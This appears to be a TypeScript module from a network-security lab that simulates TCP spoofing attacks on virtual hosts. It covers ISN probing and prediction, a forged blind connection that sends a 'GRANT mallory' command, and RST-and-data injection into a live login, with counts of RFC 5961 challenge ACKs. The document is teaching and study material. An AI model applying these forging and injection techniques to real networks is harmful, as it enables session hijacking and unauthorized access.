// The tcp-spoofing lab's moves: the servers' trusting service (it keeps what each session sent), the
// attacker's ISN probes (a real connection from its own address, read the server's ISN, reset it), the
// blind connection (forged SYN, then a forged ACK with data acknowledging the ISN it predicted) and
// the injection into a live login (an in-window RST, forged data, an exact RST), for one generation.

import { tcpSegments } from '../../src/lab/index.ts';
import type { Host, LabNet } from '../../src/netsim/index.ts';
import type { VirtualTcpServer, VirtualTcpSocket } from '../../src/netsim/tcp/index.ts';
import { WEAK_ISN_PER_CONNECTION } from '../../src/netsim/tcp/index.ts';
import { ADDR, forge, pairOf, SERVICE_PORT, type Generation, type SpoofNet } from './net.ts';

/** One session the service accepted: who it believes it talks to, and what arrived. */
export interface Session {
  readonly remote: string;
  readonly remotePort: number;
  readonly socket: VirtualTcpSocket;
  text: string;
  error: string;
}

export const LOGIN = 'LOGIN alice\n';
export const WELCOME = 'WELCOME alice\n';
export const EVIL = 'GRANT mallory\n';
/** The source port of the forged blind connection (rsh trusted ports below 1024). */
export const BLIND_PORT = 1023;
/** The attacker's own ISN in the forged SYN. */
export const BLIND_ISN = 1_000_000;
/** How far past the expected byte the attacker's first RST lands (inside the window, not exact). */
export const RST_OFFSET = 5000;

/** The service on SERVICE_PORT: it answers a LOGIN line from its trusted client with WELCOME. */
export function trustingService(host: Host, trusted: string, sessions: Session[]): VirtualTcpServer {
  return host.tcp.listen(SERVICE_PORT, (socket) => {
    const s: Session = { remote: socket.remoteAddress, remotePort: socket.remotePort, socket, text: '', error: '(none)' };
    sessions.push(s);
    socket.on('error', (e) => (s.error = e.code));
    socket.on('data', (b) => {
      s.text += b.toString('latin1');
      if (s.remote === trusted && s.text === LOGIN) socket.write(WELCOME);
    });
  });
}

/** The attacker's probe: a connection of its own to host:port; the ISN the host chose (its SYN-ACK's seq). */
export async function probeIsn(net: LabNet, attacker: Host, host: string, port: number): Promise<number> {
  const s = attacker.tcp.connect({ host, port });
  s.on('error', () => undefined);
  await net.runUntil(() => s.state === 'ESTABLISHED', 1000, `the probe of ${host}:${port} did not connect`);
  const isn = s.info().irs;
  s.destroy();
  await net.wait(3);
  return isn;
}

/** What the attacker guesses next from the last ISN it saw: one connection later, the same second. */
export const predictNext = (last: number): number => (last + WEAK_ISN_PER_CONNECTION) >>> 0;

export interface BlindResult {
  readonly predicted: number;
  readonly actual: number;
  /** The session the server opened for the forged connection, if any. */
  readonly session: Session | undefined;
}

/** The blind connection against a generation's server; `lastIsn` is the server's ISN the attacker saw last. */
export async function blindConnect(net: LabNet, sn: SpoofNet, g: Generation, lastIsn: number, sessions: Session[]): Promise<BlindResult> {
  const p = pairOf(g);
  const predicted = predictNext(lastIsn);
  const base = { src: ADDR[p.client], dst: ADDR[p.server], sport: BLIND_PORT, dport: SERVICE_PORT } as const;
  const mark = net.frames.length;
  forge(sn.hosts.attacker, { ...base, seq: BLIND_ISN, flags: 'S' });
  await net.wait(10);
  const synAck = net
    .since(mark)
    .filter((f) => f.link === p.server)
    .flatMap((f) => tcpSegments([{ sec: 0, nsec: 0, data: f.frame }]))
    .find((s) => s.tcp.flags.syn && s.tcp.flags.ack && s.tcp.dstPort === BLIND_PORT);
  const actual = synAck?.tcp.seq ?? -1;
  forge(sn.hosts.attacker, { ...base, seq: BLIND_ISN + 1, ack: predicted + 1, flags: 'PA', data: EVIL });
  await net.wait(10);
  return { predicted, actual, session: sessions.find((s) => s.remotePort === BLIND_PORT) };
}

export interface InjectResult {
  readonly predicted: { client: number; server: number };
  readonly actual: { client: number; server: number };
  readonly session: Session;
  readonly client: VirtualTcpSocket;
  /** The server's challenge ACKs and duplicate segments counted during the attack. */
  readonly challengeAcks: number;
  readonly dropped: number;
  /** The window the server offered the client before the attack. */
  readonly window: number;
  /** How many ACK numbers the server would take (RFC 5961 5.2: SND.UNA - max(MAX.SND.WND, 65535) to SND.NXT). */
  readonly ackRange: number;
  /** The client's error (after it writes again). */
  readonly clientError: () => string;
}

/** Injection into a live login of a generation: probes of both ends, the login, then the attacker's three segments. */
export async function injectIntoLogin(net: LabNet, sn: SpoofNet, g: Generation, sessions: Session[]): Promise<InjectResult> {
  const p = pairOf(g);
  const attacker = sn.hosts.attacker;
  const c0 = await probeIsn(net, attacker, ADDR[p.client], 7);
  const s0 = await probeIsn(net, attacker, ADDR[p.server], SERVICE_PORT);
  const predicted = { client: predictNext(c0), server: predictNext(s0) };
  const client = sn.hosts[p.client].tcp.connect({ host: ADDR[p.server], port: SERVICE_PORT });
  let clientError = '(none)';
  client.on('error', (e) => (clientError = e.code));
  let welcomed = '';
  client.on('data', (b) => (welcomed += b.toString('latin1')));
  await net.runUntil(() => client.state === 'ESTABLISHED', 1000, 'the login did not connect');
  client.write(LOGIN);
  await net.runUntil(() => welcomed === WELCOME, 1000, 'the server did not answer the login');
  await net.wait(300);
  const session = sessions[sessions.length - 1];
  if (session === undefined || session.remotePort !== client.localPort) throw new Error('the service did not record the login');
  const before = session.socket.info();
  const window = before.rcvWnd;
  const ackRange = Math.max(before.sndWnd, 65535) + ((before.sndNxt - before.sndUna) >>> 0) + 1;
  const base = { src: ADDR[p.client], dst: ADDR[p.server], sport: client.localPort, dport: SERVICE_PORT } as const;
  const next = (predicted.client + 1 + LOGIN.length) >>> 0;
  // 1. A RST inside the window, RST_OFFSET bytes past the byte the server expects.
  forge(attacker, { ...base, seq: next + RST_OFFSET, flags: 'R' });
  await net.wait(5);
  // 2. Data at the byte expected, acknowledging the server's WELCOME.
  forge(attacker, { ...base, seq: next, ack: predicted.server + 1 + WELCOME.length, flags: 'PA', data: EVIL });
  await net.wait(1);
  // 3. A RST at exactly the next byte (after the forged data), before the server's delayed ACK.
  forge(attacker, { ...base, seq: next + EVIL.length, flags: 'R' });
  await net.wait(5);
  const after = session.socket.info();
  return {
    predicted,
    actual: { client: client.info().iss, server: client.info().irs },
    session,
    client,
    challengeAcks: after.counters.challengeAcks - before.counters.challengeAcks,
    dropped: after.counters.duplicateSegments - before.counters.duplicateSegments,
    window,
    ackRange,
    clientError: () => clientError,
  };
}
